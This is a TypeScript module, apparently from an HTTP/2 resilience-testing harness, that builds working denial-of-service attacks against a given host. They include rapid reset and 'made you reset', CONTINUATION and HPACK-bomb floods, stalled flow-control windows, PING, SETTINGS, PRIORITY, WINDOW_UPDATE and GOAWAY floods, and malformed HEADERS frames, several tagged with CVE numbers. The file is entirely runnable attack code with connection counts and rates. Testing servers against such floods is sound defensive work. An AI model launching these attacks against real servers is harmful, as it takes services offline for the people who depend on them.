import type net from 'node:net';
import { type Behaviour, pour } from './connections.ts';
import {
  endHeaders,
  endStream,
  field,
  frame,
  frameTypes,
  greeting,
  indexedField,
  requestFields,
  settingsFrame,
  windowUpdate,
  word,
} from './http2-frames.ts';

const few = { alpn: 'h2', connections: 8, addresses: 4, perSecond: 100 } as const;
const noError = word(0);

/** So many streams, each opened by `first`; its number counts from 1. */
function streams(count: number, from: number, one: (stream: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, n) => one(from + 2 * n)));
}

/** Opens streams over and over, as fast as they are taken. */
function flood(socket: net.Socket, one: (stream: number) => Buffer, perTurn = 100): void {
  let next = 1;
  socket.write(greeting());
  const go = (): void => {
    while (!socket.destroyed && next < 2 ** 31 - 2 * perTurn) {
      const bytes = streams(perTurn, next, one);
      next += 2 * perTurn;
      if (!socket.write(bytes)) return;
    }
  };
  socket.on('drain', () => setImmediate(go));
  go();
}

/** Attacks on HTTP/2 (RFC 9113 §10.5), each by few connections, as one is enough where a limit is missing. */
export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> {
  const request = requestFields(host);
  const upload = requestFields(host, '/', 'POST');
  const open = (stream: number): Buffer => frame(frameTypes.headers, endHeaders | endStream, stream, request);
  const started = greeting();
  const repeated = (bytes: Buffer) => (socket: net.Socket) => {
    socket.write(started);
    pour(socket, Buffer.concat(Array.from({ length: Math.ceil(16_384 / bytes.length) }, () => bytes)));
  };
  return {
    'rapid reset (CVE-2023-44487)': {
      ...few,
      opened: (socket) =>
        flood(socket, (stream) => Buffer.concat([open(stream), frame(frameTypes.resetStream, 0, stream, word(8))])),
    },
    'made you reset (CVE-2025-8671)': {
      ...few,
      opened: (socket) =>
        flood(socket, (stream) =>
          Buffer.concat([
            frame(frameTypes.headers, endHeaders, stream, upload),
            // More window than there can be: the server must reset the stream (RFC 9113 §6.9.1).
            windowUpdate(stream, 2 ** 31 - 1),
          ]),
        ),
    },
    'CONTINUATION flood (CVE-2024-27983)': {
      ...few,
      opened(socket) {
        socket.write(Buffer.concat([started, frame(frameTypes.headers, endStream, 1, request)]));
        pour(socket, frame(frameTypes.continuation, 0, 1, field('x-filler', 'x'.repeat(8000))));
      },
    },
    'HPACK bomb': {
      ...few,
      opened(socket) {
        const bomb = Buffer.concat([
          request,
          field('x-bomb', 'x'.repeat(4000), true),
          ...Array.from({ length: 12_000 }, () => indexedField(62)),
        ]);
        flood(socket, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, bomb), 1);
      },
    },
    'HPACK bomb with a stalled window (CVE-2026-49975)': {
      ...few,
      connections: 200,
      opened(socket) {
        const entry = field('x-bomb', 'x'.repeat(500), true);
        const bomb = Buffer.concat([
          requestFields(host, '/large'),
          entry,
          ...Array.from({ length: 60 }, () => indexedField(62)),
        ]);
        socket.write(greeting({ 4: 0 }));
        socket.write(streams(250, 1, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, bomb)));
      },
      tick: (socket) => socket.write(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
    },
    'stalled windows': {
      ...few,
      connections: 200,
      opened(socket) {
        socket.write(greeting({ 4: 0 }));
        const asking = requestFields(host, '/large');
        socket.write(streams(250, 1, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, asking)));
      },
      // Keeps the connection from being idle.
      tick: (socket) => socket.write(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
    },
    'PING flood': { ...few, opened: repeated(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))) },
    'PING flood whose answers are not read': {
      ...few,
      isDeaf: true,
      opened: repeated(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
    },
    'SETTINGS flood': { ...few, opened: repeated(settingsFrame({ 4: 65_535 })) },
    'PRIORITY flood': {
      ...few,
      opened: repeated(frame(frameTypes.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]))),
    },
    'empty DATA flood': {
      ...few,
      opened(socket) {
        socket.write(Buffer.concat([started, frame(frameTypes.headers, endHeaders, 1, upload)]));
        pour(socket, Buffer.concat(Array.from({ length: 1000 }, () => frame(frameTypes.data, 0, 1))));
      },
    },
    'WINDOW_UPDATE flood on stream 0 (CVE-2026-21714)': {
      ...few,
      opened: (socket) => {
        socket.write(started);
        pour(socket, Buffer.concat(Array.from({ length: 1000 }, () => windowUpdate(0, 2 ** 31 - 1))));
      },
    },
    'malformed HEADERS (CVE-2025-59465)': {
      ...few,
      opened(socket) {
        socket.write(
          Buffer.concat([
            started,
            frame(frameTypes.headers, endHeaders | endStream, 1, Buffer.from([0x40, 0xff, 0xff, 0xff, 0xff, 0xff])),
          ]),
        );
      },
    },
    'GOAWAY flood': {
      ...few,
      opened(socket) {
        // What is under way keeps the connection open after the first.
        socket.write(Buffer.concat([started, frame(frameTypes.headers, endHeaders, 1, upload)]));
        const goAway = frame(frameTypes.goAway, 0, 0, Buffer.concat([word(0), noError]));
        pour(socket, Buffer.concat(Array.from({ length: 1000 }, () => goAway)));
      },
    },
  };
}
